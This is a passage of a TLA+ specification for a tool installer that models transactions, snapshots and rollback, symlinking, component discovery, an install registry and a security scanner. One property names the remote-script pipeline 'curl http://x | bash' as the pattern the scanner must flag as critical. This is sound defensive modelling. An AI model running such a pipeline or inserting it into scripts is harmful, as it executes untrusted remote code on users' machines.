       IN  cli' = [cli EXCEPT !.scanner = r, !.found = r.issues]
    /\ last' = "scan"
    /\ UNCHANGED <<fs, pre, tx, pc, exc, raised, now>>

\* the caller is done with the scanner
ScannerReturn ==
    /\ pc = "scan"
    /\ pc' = "done"
    /\ UNCHANGED <<fs, pre, tx, cli, exc, raised, now, ncalls, last>>

NextScan ==
    \/ ScanTool("kit")
    \/ ScannerNew("kit")
    \/ ScannerScan
    \/ ScannerReturn
    \/ ProcessEnd

SpecScan == InitScan /\ [][NextScan]_vars

(***************************************************************************)
(* Installs of a clone that is already at tools/kit, with --only-link: the *)
(* trees differ in their scripts, and so in what the Security Gate finds.  *)
(***************************************************************************)
NextSecure ==
    \/ \E no_validate \in BOOLEAN, backup \in BOOLEAN :
          CliStart("https://g.io/al/kit", TRUE, no_validate, backup)
    \/ InstallFetch
    \/ InstallLink
    \/ InstallLinkFault
    \/ InstallValidate
    \/ CliDecide
    \/ TxExit
    \/ ProcessEnd

SpecSecure == InitScan /\ [][NextSecure]_vars

(***************************************************************************)
(* The Component Discoverer alone: find_components on a repository whose   *)
(* category directories lie at the root, deeper, or both, listed by the    *)
(* operating system in any order of the names.                             *)
(***************************************************************************)
DirNames == {"skills", "agents", "pkg", "node_modules"}

\* the orders in which a directory listing can deliver the names
Listings ==
    {l \in [1..Cardinality(DirNames) -> DirNames] :
        \A i, j \in 1..Cardinality(DirNames) : l[i] = l[j] => i = j}

DirPaths ==
    {<<"skills">>, <<"agents">>, <<"pkg">>, <<"node_modules">>,
     <<"skills", "skills">>, <<"skills", "agents">>,
     <<"pkg", "skills">>,
     <<"node_modules", "agents">>,
     <<"pkg", "pkg">>, <<"pkg", "pkg", "agents">>,
     <<"pkg", "pkg", "pkg">>, <<"pkg", "pkg", "pkg", "skills">>,
     <<"pkg", "pkg", "pkg", "pkg">>, <<"pkg", "pkg", "pkg", "pkg", "agents">>}

\* the trees: with a directory, every directory above it
DirTrees ==
    {t \in SUBSET DirPaths :
        \A p \in t : Len(p) > 1 => SubSeq(p, 1, Len(p) - 1) \in t}

InitDiscover ==
    /\ fs = EmptyFs
    /\ pre = fs
    /\ tx = NewTransaction("", FALSE)
    /\ \E t \in DirTrees, l \in Listings :
          cli = [dirs |-> t, listing |-> l, components |-> <<>>]
    /\ pc = "idle"
    /\ exc = "none"
    /\ raised = "none"
    /\ now = 0
    /\ ncalls = 0
    /\ last = "none"

\* components = find_components(tool_path)
Discover ==
    /\ pc = "idle"
    /\ cli' = [cli EXCEPT !.components = find_components_in(cli.dirs, cli.listing)]
    /\ pc' = "found"
    /\ last' = "find_components"
    /\ UNCHANGED <<fs, pre, tx, exc, raised, now, ncalls>>

\* the same tree is walked again, its directories listed in another order
DiscoverAgain(l) ==
    /\ pc = "found"
    /\ ncalls < 1
    /\ ncalls' = ncalls + 1
    /\ cli' = [cli EXCEPT !.listing = l,
                          !.components = find_components_in(cli.dirs, l)]
    /\ UNCHANGED <<fs, pre, tx, pc, exc, raised, now, last>>

NextDiscover ==
    \/ Discover
    \/ \E l \in Listings : DiscoverAgain(l)

SpecDiscover == InitDiscover /\ [][NextDiscover]_vars

(***************************************************************************)
(* The item listing alone: get_component_items on a component directory    *)
(* whose entries are files and subdirectories, hidden or not.              *)
(***************************************************************************)
\* Python: PurePath(name).suffix
Suffix(name) ==
    LET dots == {i \in 1..Len(name) : SubSeq(name, i, i) = "."}
    IN  IF dots = {} THEN ""
        ELSE LET i == CHOOSE d \in dots : \A e \in dots : e <= d
             IN  IF 1 < i /\ i < Len(name) THEN SubSeq(name, i, Len(name)) ELSE ""

\* Python: PurePath(name).stem
Stem(name) == SubSeq(name, 1, Len(name) - Len(Suffix(name)))

\* Python: sorted(items)
RECURSIVE Sorted(_)
Sorted(items) ==
    IF items = <<>> THEN <<>>
    ELSE LET i == CHOOSE k \in 1..Len(items) :
                      \A j \in 1..Len(items) : ~StrLess(items[j], items[k])
         IN  <<items[i]>> \o Sorted(SubSeq(items, 1, i - 1) \o SubSeq(items, i + 1, Len(items)))

\* the body of `for item in path.iterdir()` for one entry
ItemOf(item, c_type) ==
    IF StartsWith(item.name, ".") THEN <<>>
    ELSE IF c_type \in {"commands"}
         THEN IF item.kind = "file" THEN <<item.name>> ELSE <<>>
    ELSE IF c_type \in {"skills", "agents", "plugins", "mcp"}
         THEN IF item.kind = "dir" THEN <<item.name>>
              ELSE IF item.kind = "file" /\ Suffix(item.name) \in {".md", ".json", ".py", ".js"}
                   THEN <<Stem(item.name)>>
                   ELSE <<>>
    ELSE <<>>

RECURSIVE ItemsIn(_, _)
ItemsIn(entries, c_type) ==
    IF entries = {} THEN <<>>
    ELSE LET item == CHOOSE e \in entries : TRUE
         IN  ItemOf(item, c_type) \o ItemsIn(entries \ {item}, c_type)

\* get_component_items(path, c_type); path is <<>> when it is no directory
get_component_items(path, c_type) ==
    IF path = <<>> THEN <<>> ELSE Sorted(ItemsIn(path[1], c_type))

EntryNames == {"lint", "lint.js", "notes.md", ".env", "data.txt"}

\* the component directories: each name absent, a file or a subdirectory
ComponentDirs ==
    UNION {[names -> {"file", "dir"}] : names \in SUBSET EntryNames}

EntriesOf(d) == {[name |-> n, kind |-> d[n]] : n \in DOMAIN d}

InitItems ==
    /\ fs = EmptyFs
    /\ pre = fs
    /\ tx = NewTransaction("", FALSE)
    /\ \E d \in ComponentDirs, c \in CategorySet, there \in BOOLEAN :
          cli = [path |-> IF there THEN <<EntriesOf(d)>> ELSE <<>>,
                 c_type |-> c, items |-> <<>>]
    /\ pc = "idle"
    /\ exc = "none"
    /\ raised = "none"
    /\ now = 0
    /\ ncalls = 0
    /\ last = "none"

\* items = get_component_items(c_path, c_type)
ListItems ==
    /\ pc = "idle"
    /\ cli' = [cli EXCEPT !.items = get_component_items(cli.path, cli.c_type)]
    /\ pc' = "listed"
    /\ last' = "get_component_items"
    /\ UNCHANGED <<fs, pre, tx, exc, raised, now, ncalls>>

NextItems == ListItems

SpecItems == InitItems /\ [][NextItems]_vars

(***************************************************************************)
(* Two installed tools, kit and kit_x.  Library callers run transactions   *)
(* on either, and `install_transaction.py rollback <tool> [<snapshot>]`    *)
(* restores a tool from a snapshot that an earlier transaction left.       *)
(***************************************************************************)
TwoNames == {"kit", "kit_x"}

InitTwo ==
    /\ \E t1 \in Trees, t2 \in Trees :
          fs = Installed(Installed(EmptyFs, "https://g.io/al/kit", t1),
                         "https://g.io/al/kit_x", t2)
    /\ pre = fs
    /\ tx = NewTransaction("", FALSE)
    /\ cli = NoCli
    /\ pc = "idle"
    /\ exc = "none"
    /\ raised = "none"
    /\ now = 0
    /\ ncalls = 0
    /\ last = "none"

\* install_transaction.py rollback tool_name [snapshot_path]
RollbackTool(tool_name, snapshot_path) ==
    /\ pc = "idle"
    /\ now < MaxSessions
    /\ now' = now + 1
    /\ LET r == rollback_tool(fs, tool_name, snapshot_path, now + 1)
       IN  /\ fs' = r.fs
           /\ cli' = [NoCli EXCEPT !.target = tool_name, !.snapshot_path = snapshot_path,
                                   !.success = IF r.ret THEN "True" ELSE "False"]
    /\ pre' = fs
    /\ pc' = "done"
    /\ last' = "rollback_tool"
    /\ UNCHANGED <<tx, exc, raised, ncalls>>

NextTwo ==
    \/ \E name \in TwoNames, backup \in BOOLEAN : ApiStart(name, backup)
    \/ ApiFetch
    \/ ApiLink
    \/ ApiLinkFault
    \/ ApiCommit
    \/ ApiRollback
    \/ ApiFault
    \/ ApiReturn
    \/ TxExit
    \/ \E name \in TwoNames \cup {"zed"} :
          \E path \in {NoSnapshot} \cup {<<n, ts>> : n \in TwoNames, ts \in 1..2} :
             RollbackTool(name, path)
    \/ ProcessEnd

SpecTwo == InitTwo /\ [][NextTwo]_vars

(***************************************************************************)
(* The Registry alone.  A process builds an InstallLogger over the         *)
(* directory .install-logs, whose manifest.json is absent, was written by  *)
(* an earlier logger, or holds a text some other program left, and calls   *)
(* its operations.  In this specification fs is that directory, cli is the *)
(* logger object with the value its last call returned, ncalls is the      *)
(* clock and now counts the processes.                                     *)
(***************************************************************************)
LoggedTools == {"kit", "zed"}

\* texts that are not a registry document
CorruptTexts == {"", "{bad", "[]", "{}", "{\"last_updated\": \"0\"}"}

\* the entry a logger wrote for tool at clock value 0
EntryOf(tool, passed) ==
    [name |-> tool, url |-> "https://g.io/al/" \o tool, installed_at |-> 0,
     last_updated |-> 0, status |-> Status(passed), validation_passed |-> passed]

ManifestFiles ==
    {[kind |-> "absent"]}
    \cup {[kind |-> "text", text |-> x] : x \in CorruptTexts}
    \cup {[kind |-> "json", doc |-> Manifest(tools, 0)] :
            tools \in {<<>>} \cup {<<EntryOf(n, b)>> : n \in LoggedTools, b \in BOOLEAN}
                      \cup {<<EntryOf("kit", b), EntryOf("zed", TRUE)>> : b \in BOOLEAN}}

InitLogger ==
    /\ \E file \in ManifestFiles : fs = [manifest_file |-> file, log_files |-> {}]
    /\ pre = fs
    /\ tx = NewTransaction("", FALSE)
    /\ cli = [manifest |-> PyList, ret |-> "None"]
    /\ pc = "idle"
    /\ exc = "none"
    /\ raised = "none"
    /\ now = 0
    /\ ncalls = 0
    /\ last = "none"

\* logger = InstallLogger()
LoggerNew ==
    /\ pc = "idle"
    /\ now < MaxSessions
    /\ now' = now + 1
    /\ cli' = [manifest |-> _load_manifest(fs, ncalls), ret |-> "None"]
    /\ pre' = fs
    /\ pc' = "logger"
    /\ last' = "none"
    /\ UNCHANGED <<fs, tx, exc, raised, ncalls>>

\* the outcome r of a call on the logger: an exception ends the process
LoggerCall(r, op) ==
    /\ pc = "logger"
    /\ ncalls < MaxCalls
    /\ ncalls' = ncalls + 1
    /\ fs' = r.dir
    /\ cli' = [manifest |-> r.manifest, ret |-> r.ret]
    /\ raised' = r.raised
    /\ pc' = IF r.raised = "none" THEN "logger" ELSE "done"
    /\ last' = op
    /\ UNCHANGED <<pre, tx, exc, now>>

LogInstallation(tool, passed) ==
    LoggerCall(log_installation(fs, cli.manifest, tool, "https://g.io/al/" \o tool,
                                passed, ncalls + 1), "log_installation")

LogFailure(tool) ==
    LoggerCall(log_failure(fs, cli.manifest, tool, "https://g.io/al/" \o tool,
                           ncalls + 1), "log_failure")

GetToolInfo(tool) ==
    LoggerCall(get_tool_info(fs, cli.manifest, tool), "get_tool_info")

MarkUninstalled(tool) ==
    LoggerCall(mark_uninstalled(fs, cli.manifest, tool, ncalls + 1), "mark_uninstalled")

\* the process ends: the logger object is gone, the directory stays
LoggerEnd ==
    /\ pc \in {"logger", "done"}
    /\ pc' = "idle"
    /\ cli' = [manifest |-> PyList, ret |-> "None"]
    /\ raised' = "none"
    /\ last' = "none"
    /\ pre' = fs
    /\ UNCHANGED <<fs, tx, exc, now, ncalls>>

NextLogger ==
    \/ LoggerNew
    \/ \E tool \in LoggedTools, passed \in BOOLEAN : LogInstallation(tool, passed)
    \/ \E tool \in LoggedTools : LogFailure(tool)
    \/ \E tool \in LoggedTools : GetToolInfo(tool)
    \/ \E tool \in LoggedTools : MarkUninstalled(tool)
    \/ LoggerEnd

SpecLogger == InitLogger /\ [][NextLogger]_vars

(***************************************************************************)
(* Two installer processes at once.  Each builds its own InstallLogger     *)
(* over the same .install-logs directory and records the installation of   *)
(* its own tool: a installs kit, b installs zed.  cli holds, per process,  *)
(* its position and its logger object.  Building the logger reads          *)
(* manifest.json; log_installation writes it.                              *)
(***************************************************************************)
Writers == {"a", "b"}

ToolOfWriter(w) == IF w = "a" THEN "kit" ELSE "zed"

InitWriters ==
    /\ \E file \in ManifestFiles : fs = [manifest_file |-> file, log_files |-> {}]
    /\ pre = fs
    /\ tx = NewTransaction("", FALSE)
    /\ cli = [w \in Writers |-> [pc |-> "idle", manifest |-> PyList, raised |-> "none"]]
    /\ pc = "idle"
    /\ exc = "none"
    /\ raised = "none"
    /\ now = 0
    /\ ncalls = 0
    /\ last = "none"

\* process w: logger = InstallLogger()
WriterNew(w) ==
    /\ cli[w].pc = "idle"
    /\ cli' = [cli EXCEPT ![w] = [pc |-> "logger", manifest |-> _load_manifest(fs, ncalls),
                                  raised |-> "none"]]
    /\ UNCHANGED <<fs, pre, tx, pc, exc, raised, now, ncalls, last>>

\* process w: logger.log_installation(tool, url, ...)
WriterLog(w, passed) ==
    /\ cli[w].pc = "logger"
    /\ LET r == log_installation(fs, cli[w].manifest, ToolOfWriter(w),
                                 "https://g.io/al/" \o ToolOfWriter(w), passed, ncalls + 1)
       IN  /\ fs' = r.dir
           /\ cli' = [cli EXCEPT ![w] = [pc |-> "done", manifest |-> r.manifest,
                                         raised |-> r.raised]]
    /\ ncalls' = ncalls + 1
    /\ last' = "log_installation"
    /\ UNCHANGED <<pre, tx, pc, exc, raised, now>>

NextWriters ==
    \/ \E w \in Writers : WriterNew(w)
    \/ \E w \in Writers, passed \in BOOLEAN : WriterLog(w, passed)

SpecWriters == InitWriters /\ [][NextWriters]_vars

(***************************************************************************)
(* The crash window.  A library caller runs a transaction with backup on   *)
(* the tool kit; the process is killed inside the with statement, before   *)
(* commit() or rollback() has run; the user then runs                      *)
(* `install_transaction.py rollback kit`.  pre stays the filesystem as it  *)
(* was when the killed transaction started.                                *)
(***************************************************************************)
\* the process is killed: none of its code runs any more
Kill ==
    /\ pc \in {"api", "exit"}
    /\ ~tx.committed /\ ~tx.rolled_back
    /\ pc' = "killed"
    /\ exc' = "none"
    /\ UNCHANGED <<fs, pre, tx, cli, raised, now, ncalls, last>>

\* install_transaction.py rollback tool_name, run after the kill
RollbackAfterKill(tool_name) ==
    /\ pc = "killed"
    /\ LET r == rollback_tool(fs, tool_name, NoSnapshot, now + 1)
       IN  /\ fs' = r.fs
           /\ cli' = [cli EXCEPT !.success = IF r.ret THEN "True" ELSE "False"]
    /\ now' = now + 1
    /\ pc' = "done"
    /\ last' = "rollback_tool"
    /\ UNCHANGED <<pre, tx, exc, raised, ncalls>>

NextCrash ==
    \/ ApiStart("kit", TRUE)
    \/ ApiFetch
    \/ ApiLink
    \/ ApiLinkFault
    \/ ApiFault
    \/ ApiReturn
    \/ Kill
    \/ RollbackAfterKill("kit")
    \/ TxExit
    \/ ProcessEnd

SpecCrash == Init /\ [][NextCrash]_vars

(***************************************************************************)
(* Installs, with --only-link, of a clone at tools/kit whose skills        *)
(* directory lies at the root or below pkg, with one metadata document in  *)
(* it.                                                                     *)
(***************************************************************************)
DeepTrees ==
    {[comps |-> cs \cup {c}, docs |-> ds, extras |-> {}, scripts |-> {}] :
        c \in {"skills", "pkg/skills"},
        cs \in {{}, {"agents"}},
        ds \in {{}} \cup {{Doc(dc, k)} : dc \in {"skills", "pkg/skills"}, k \in DocKinds}}

InitDeep ==
    /\ \E tree \in DeepTrees :
          /\ \A d \in tree.docs : d.cat \in tree.comps
          /\ fs = [EmptyFs EXCEPT !.tools = With(@, "kit", Checkout("https://g.io/al/kit", tree))]
    /\ pre = fs
    /\ tx = NewTransaction("", FALSE)
    /\ cli = NoCli
    /\ pc = "idle"
    /\ exc = "none"
    /\ raised = "none"
    /\ now = 0
    /\ ncalls = 0
    /\ last = "none"

SpecDeep == InitDeep /\ [][NextSecure]_vars

(***************************************************************************)
(* Properties.                                                             *)
(***************************************************************************)
\* the links of tool `name`: the symlinks at <destination>/<name>
LinksOf(f, name) == [k \in {x \in DOMAIN f.links : x[2] = name} |-> f.links[k]]

\* the on-disk state apart from snapshot and log artifacts
Disk(f) == [tools |-> f.tools, links |-> f.links, rdirs |-> f.rdirs]

\* the snapshot directory of the running transaction is on disk
HasSnapshot == tx.snapshot_dir # NoSnapshot /\ tx.snapshot_dir \in DOMAIN fs.snaps

\* C1: a transaction entered with backup on an existing tool T, whose body
\* deleted and created links of T and then raised, has after its rollback
\* exactly the links of T that existed when it was entered.
C1_RollbackRestoresLinkSet ==
    [][(pc = "exit" /\ exc = "Fault" /\ ~tx.committed /\ ~tx.rolled_back
          /\ tx.backup_enabled /\ tx.tool_name \in DOMAIN pre.tools)
         => LinksOf(fs', tx.tool_name) = LinksOf(pre, tx.tool_name)]_vars

\* C2: after an install run through the CLI transaction path that failed
\* (clone failure, validation failure or an exception during discovery or
\* linking) the tool directories and every entry under the host category
\* directories are as they were before the install began.
C2_FailedInstallLeavesDiskUnchanged ==
    (pc = "done" /\ cli.in_tx /\ (cli.success # "True" \/ raised # "none"))
    => Disk(fs) = Disk(pre)

\* C3: when the body raises while the transaction is neither committed nor
\* rolled back, __exit__ rolls back (flag and status rolled_back, log saved)
\* and the exception that leaves the boundary is the one the body raised.
C3_FaultRollsBackAndPropagates ==
    [][(pc = "exit" /\ exc # "none" /\ ~tx.committed /\ ~tx.rolled_back)
         => /\ pc' = "done"
            /\ tx'.rolled_back
            /\ tx'.log.status = "rolled_back"
            /\ \E l \in fs'.logs : l.tool_name = tx.tool_name /\ l.status = "rolled_back"
            /\ raised' = exc]_vars

\* C3 witness: a body that made no call raised, and the transaction ended
\* rolled back with that fault propagated.
C3_Witness ==
    pc = "done" /\ cli.in_tx /\ ncalls = 0 /\ raised = "Fault" /\ tx.rolled_back

\* C4: whenever control returns normally from the transaction boundary the
\* transaction is committed or rolled back, never in progress; a body that
\* neither committed nor rolled back is rolled back by __exit__.
C4_NormalExitIsFinal ==
    (pc = "done" /\ cli.in_tx /\ raised = "none")
    => /\ tx.log.status \in {"committed", "rolled_back"}
       /\ tx.committed \/ tx.rolled_back
       /\ ~tx.committed => tx.rolled_back /\ tx.log.status = "rolled_back"

\* C4 witness: a body that made no call returned normally and the
\* transaction ended rolled back.
C4_Witness ==
    pc = "done" /\ cli.in_tx /\ ncalls = 0 /\ raised = "none" /\ tx.rolled_back

\* C5: commit() after a rollback and rollback() after a commit raise the
\* ordering error and change neither the transaction nor the filesystem.
C5_OrderingErrorChangesNothing ==
    [][(pc = "api" /\ ncalls' = ncalls + 1
          /\ \/ last' = "commit" /\ tx.rolled_back
             \/ last' = "rollback" /\ tx.committed)
         => /\ exc' = "OrderingError"
            /\ tx' = tx
            /\ fs' = fs]_vars

\* C5 witness: commit() was called on a rolled-back transaction and failed.
C5_Witness ==
    pc = "exit" /\ last = "commit" /\ tx.rolled_back /\ exc = "OrderingError"

C7_SnapshotOnEntry ==
    (cli.in_tx /\ pc \in {"api", "fetch", "link", "validate", "decide", "exit", "done"})
    => /\ tx.snapshot_dir # NoSnapshot
            <=> (tx.backup_enabled /\ tx.tool_name \in DOMAIN pre.tools)
       /\ tx.snapshot_dir # NoSnapshot =>
            /\ tx.log.snapshot_path = tx.snapshot_dir
            /\ \E i \in 1..Len(tx.log.operations) : tx.log.operations[i] = "snapshot_created"
       /\ HasSnapshot =>
            /\ fs.snaps[tx.snapshot_dir].tool = {pre.tools[tx.tool_name]}
            /\ \A e \in fs.snaps[tx.snapshot_dir].symlinks :
                  e.link \in DOMAIN pre.links /\ pre.links[e.link] = e.target

\* C7 witness: the body has replaced the tree of the tool after the snapshot
\* was taken.
C7_Witness ==
    /\ cli.in_tx /\ pc = "exit" /\ HasSnapshot
    /\ tx.tool_name \in DOMAIN fs.tools
    /\ fs.tools[tx.tool_name] # pre.tools[tx.tool_name]

\* C8: the snapshot taken on entry records every link of the tool, in every
\* host root and every category link_component links into.
C8_SnapshotRecordsEveryLink ==
    (cli.in_tx /\ HasSnapshot)
    => \A k \in DOMAIN pre.links :
          k[2] = tx.tool_name
          => [link |-> k, target |-> pre.links[k]] \in fs.snaps[tx.snapshot_dir].symlinks

\* C9: after the rollback of a fresh install (no snapshot) the tool
\* directory is gone and no link made by the failed install remains.
C9_FreshRollbackRemovesLinks ==
    [][(pc = "exit" /\ ~tx.committed /\ ~tx.rolled_back /\ tx.snapshot_dir = NoSnapshot
          /\ tx.tool_name \notin DOMAIN pre.tools)
         => /\ tx.tool_name \notin DOMAIN fs'.tools
            /\ \A k \in DOMAIN fs'.links :
                  k \in DOMAIN pre.links /\ pre.links[k] = fs'.links[k]]_vars

\* C10: with source A installed at name n, a successful install of another
\* source B whose default name is n leaves A's directory and links alone
\* and puts B, with B's remote, under "<author(B)>-n".
C10_CollisionInstallsUnderNamespacedName ==
    LET repo_url == ExpandUrl(cli.url)
        n == RepoNameRaw(repo_url)
        alt == Author(repo_url) \o "-" \o n
    IN  (pc = "done" /\ cli.url # "" /\ ~cli.only_link /\ cli.success = "True"
           /\ n \in DOMAIN pre.tools /\ pre.tools[n].origin # repo_url)
        => /\ n \in DOMAIN fs.tools
           /\ fs.tools[n] = pre.tools[n]
           /\ LinksOf(fs, n) = LinksOf(pre, n)
           /\ alt \in DOMAIN fs.tools
           /\ fs.tools[alt].origin = repo_url
           /\ \A c \in fs.tools[alt].comps :
                 fs.links[<<DESTINATION_MAP(c)[1], alt>>] = [tool |-> alt, cat |-> c]

\* C11: no tool directory is fetched into, pulled or relinked on behalf of a
\* source different from the one that occupies it: once install_tool has
\* resolved the name and is past the fetch, the remote recorded in the
\* directory it works on is the requested source (the sources of Urls are
\* three different repositories, each spelled one way)
C11_NoForeignToolReused ==
    (pc \in {"link", "validate"} /\ cli.url # "" /\ cli.target \in DOMAIN fs.tools)
        => get_remote_url(fs, cli.target) = ExpandUrl(cli.url)

\* C12: when the default name is occupied by a clone whose recorded remote
\* is another spelling of the requested repository, the resolver reuses the
\* default name
C12_EquivalentSpellingsReuseDefaultName ==
    LET default_name == RepoNameRaw(ExpandUrl(cli.url))
    IN  (pc = "done" /\ cli.url \in RequestedSpellings /\ default_name \in DOMAIN fs.tools
           /\ get_remote_url(fs, default_name) \in RecordedSpellings)
        => cli.target = default_name

\* every component of tool name is linked at every destination the Link
\* Engine accepts: the state a completed install leaves
FullyLinked(f, name) ==
    /\ name \in DOMAIN f.tools
    /\ \A c \in f.tools[name].comps : \A i \in 1..3 :
          LET d == DESTINATION_MAP(c)[i]
          IN  DestAccepted(f, d) =>
                 /\ <<d, name>> \in DOMAIN f.links
                 /\ f.links[<<d, name>>] = [tool |-> name, cat |-> c]

\* C13: a successful install of a source that is already installed under
\* the resolved name, whose fetch delivered the tree that is there already,
\* leaves the same links (paths and targets) under every host root and adds
\* no backup directory, no category directory, no tool directory and no
\* snapshot
C13_SecondInstallChangesNothing ==
    (pc = "done" /\ cli.url # "" /\ cli.success = "True" /\ raised = "none"
       /\ FullyLinked(pre, cli.target) /\ fs.tools = pre.tools)
    => /\ fs.links = pre.links
       /\ fs.rdirs = pre.rdirs
       /\ fs.catdirs = pre.catdirs
       /\ fs.roots = pre.roots
       /\ fs.snaps = pre.snaps

\* the second install ran: the tool was linked before, into a destination
\* where the first run had moved a real directory aside
C13_Witness ==
    /\ pc = "done" /\ cli.url # "" /\ cli.success = "True" /\ raised = "none"
    /\ FullyLinked(pre, cli.target) /\ fs.tools = pre.tools
    /\ ~cli.only_link /\ cli.in_tx
    /\ <<CODEX_DIR \o "/skills", "kit.bak.7">> \in DOMAIN fs.rdirs
    /\ <<CODEX_DIR \o "/skills", cli.target>> \in DOMAIN fs.links

\* C14: when the linking loop finds a real directory at
\* destination/tool_name, afterwards the backup destination/name.bak.<mtime>
\* holds every file the directory held and the original path is a link to
\* the component's source path; and no step of the installer, a later link
\* run or a rollback included, loses a file of a real directory
C14_BackupKeepsRealData ==
    [][/\ (pc = "link" /\ pc' = "validate") =>
            \A n \in 1..Len(find_components(fs, cli.target)) : \A i \in 1..3 :
               LET c == find_components(fs, cli.target)[n]
                   d == DESTINATION_MAP(c)[i]
                   k == <<d, cli.target>>
               IN  (DestAccepted(fs, d) /\ k \in DOMAIN fs.rdirs) =>
                      LET bk == <<d, WithSuffix(cli.target, ".bak." \o fs.rdirs[k].mtime)>>
                      IN  /\ bk \in DOMAIN fs'.rdirs
                          /\ fs.rdirs[k].files \subseteq fs'.rdirs[bk].files
                          /\ k \in DOMAIN fs'.links
                          /\ fs'.links[k] = [tool |-> cli.target, cat |-> c]
       /\ \A k \in DOMAIN fs.rdirs : \A x \in fs.rdirs[k].files :
             \E b \in DOMAIN fs'.rdirs :
                /\ b[1] = k[1]
                /\ x \in fs'.rdirs[b].files \/ (k[2] \o "/" \o x) \in fs'.rdirs[b].files]_vars

\* the linking loop has just found the user's directory kit among the codex
\* skills: the backup holds its file and the path is a link
C14_Witness ==
    /\ pc = "validate" /\ cli.target = "kit"
    /\ <<CODEX_DIR \o "/skills", "kit">> \in DOMAIN pre.rdirs
    /\ <<CODEX_DIR \o "/skills", "kit.bak.7">> \in DOMAIN fs.rdirs
    /\ "f" \in fs.rdirs[<<CODEX_DIR \o "/skills", "kit.bak.7">>].files
    /\ <<CODEX_DIR \o "/skills", "kit">> \in DOMAIN fs.links

\* the elements of a sequence
Range(q) == {q[i] : i \in 1..Len(q)}

\* C15: link_component creates the category directory and the link at the
\* primary host's destination whatever exists; at a destination of another
\* host whose root does not exist it creates nothing and leaves it out of
\* the result; and the destinations it returns are exactly those where
\* destination/tool_name is a link to source_path on return
C15_SkipsAbsentHostsExceptPrimary ==
    (pc = "done" /\ cli.c_type # "") =>
       \A i \in 1..3 :
          LET d == DestinationsUnder(fs.home, cli.c_type)[i]
              k == <<d, cli.target>>
              linked == k \in DOMAIN fs.links
                          /\ fs.links[k] = [tool |-> cli.target, cat |-> cli.c_type]
          IN  /\ i = 1 => (d \in fs.catdirs /\ linked)
              /\ (i # 1 /\ ParentDir(d) \notin pre.roots) =>
                    /\ ParentDir(d) \notin fs.roots
                    /\ d \notin fs.catdirs
                    /\ ~linked
                    /\ d \notin Range(cli.links)
              /\ d \in Range(cli.links) <=> linked

\* C16: validate_tool returns passed = true exactly when the issue list it
\* returns holds no issue of severity error; warnings do not make it false
C16_PassedIffNoError ==
    (pc = "done" /\ last = "validate")
       => (cli.success = "True" <=> ~(\E i \in cli.issues : i.severity = "error"))

\* a validation that passed although it returned a warning
C16_Witness ==
    /\ pc = "done" /\ last = "validate"
    /\ cli.success = "True"
    /\ \E i \in cli.issues : i.severity = "warning"

\* the links whose resolved target does not exist
Dangling(f) == {k \in DOMAIN f.links : ~TargetExists(f, f.links[k])}

\* C17: for a tool with one metadata document, in a category directory at
\* its root, and no dangling link, validation fails with an error issue
\* whose file_path is the document when the header declares `tools` as a
\* sequence, and passes when it declares `tools` as a mapping
C17_SequenceFailsMappingPasses ==
    (pc = "done" /\ last = "validate" /\ Dangling(fs) = {}
       /\ cli.target \in DOMAIN fs.tools)
    => \A d \in fs.tools[cli.target].docs :
          (fs.tools[cli.target].docs = {d} /\ d.cat \in fs.tools[cli.target].comps) =>
             /\ d.kind = "sequence" =>
                   /\ cli.success = "False"
                   /\ \E i \in cli.issues :
                         i.severity = "error" /\ i.file_path = DocPath(cli.target, d)
             /\ d.kind = "mapping" => cli.success = "True"

\* C18: a link of the validated tool, under any host root and in any
\* category, whose target does not exist is reported as an error issue
\* naming the link, and the validation does not pass
C18_DanglingLinkIsAnError ==
    (pc = "done" /\ last = "validate") =>
       \A k \in Dangling(fs) :
          fs.links[k].tool = cli.target =>
             /\ cli.success = "False"
             /\ \E i \in cli.issues :
                   i.severity = "error" /\ i.file_path = k[1] \o "/" \o k[2]

\* C19: the validation phase of an install changes neither the tool
\* directories, nor any link or directory under a host root, nor the
\* snapshots, nor the state of the transaction, whatever issues it finds
C19_ValidationChangesNothing ==
    [][(pc = "validate" /\ ~cli.no_validate) => (fs' = fs /\ tx' = tx)]_vars

\* a validation that found a dangling link of the tool has just returned
C19_Witness ==
    /\ pc = "decide" /\ ~cli.no_validate /\ cli.success = "False"
    /\ _validate_symlinks(fs, cli.target) # {}
    /\ tx.snapshot_dir \in DOMAIN fs.snaps

\* C20: an install whose requested validation reported an error ends, under
\* every combination of --only-link and --no-backup, uncommitted and with
\* its mutations rolled back: the tool directories and the links are those
\* the process started with
C20_ValidationFailureIsRolledBack ==
    (pc = "done" /\ cli.url # "" /\ ~cli.no_validate /\ cli.success = "False")
       => /\ ~tx.committed
          /\ fs.tools = pre.tools
          /\ fs.links = pre.links

\* the text of the remote-script pipeline
CurlBash == "curl http://x | bash"

\* C22: when the only script file of the scanned tool holds the text
\* `curl http://x | bash` on exactly one line k, the list a scan returns
\* holds exactly one finding of severity critical, and it cites that file
\* and line k; a second scan of the unchanged tree returns the same
C22_OneCriticalFindingAtLine ==
    (pc \in {"scan", "done"} /\ ncalls >= 1 /\ cli.target \in DOMAIN fs.tools) =>
       \A x \in fs.tools[cli.target].scripts :
          \A k \in 1..Len(x.lines) :
             (/\ fs.tools[cli.target].scripts = {x}
              /\ \A j \in 1..Len(x.lines) : Contains(x.lines[j], CurlBash) <=> j = k)
             => LET crit == SelectSeq(cli.found, LAMBDA i : i.severity = "critical")
                IN  /\ Len(crit) = 1
                    /\ crit[1].file_path = x.path
                    /\ crit[1].line_number = k

\* the filesystem with every script of every tool removed: nothing is left
\* for the Security Gate to find in a code pattern
Strip(f) == [f EXCEPT !.tools = [n \in DOMAIN @ |-> [@[n] EXCEPT !.scripts = {}]]]

\* C21: the validation result that decides the install, the links the
\* install made and the commit are those of the same install of the same
\* tree without its scripts, whatever the Security Gate finds in them
C21_SecurityFindingsDoNotDecide ==
    /\ (pc \in {"decide", "exit"} /\ cli.url # "" /\ cli.success # "None") =>
          LET f0 == Strip(fs)
              comps == find_components(f0, cli.target)
          IN  /\ cli.success = IF ~cli.no_validate /\ ~run_validation(f0, cli.target)
                               THEN "False" ELSE "True"
              /\ LinkComponents(f0, cli.target, comps, Len(comps)).links = fs.links
    /\ (pc = "exit" /\ cli.url # "" /\ exc = "none") =>
          (tx.committed <=> cli.success = "True")

\* an install of a tree in which the Security Gate finds a critical pattern
\* was validated and committed
C21_Witness ==
    /\ pc = "exit" /\ cli.url # "" /\ ~cli.no_validate /\ tx.committed
    /\ \E i \in 1..Len(scan_tool_security(fs.tools[cli.target]).issues) :
          scan_tool_security(fs.tools[cli.target]).issues[i].severity = "critical"
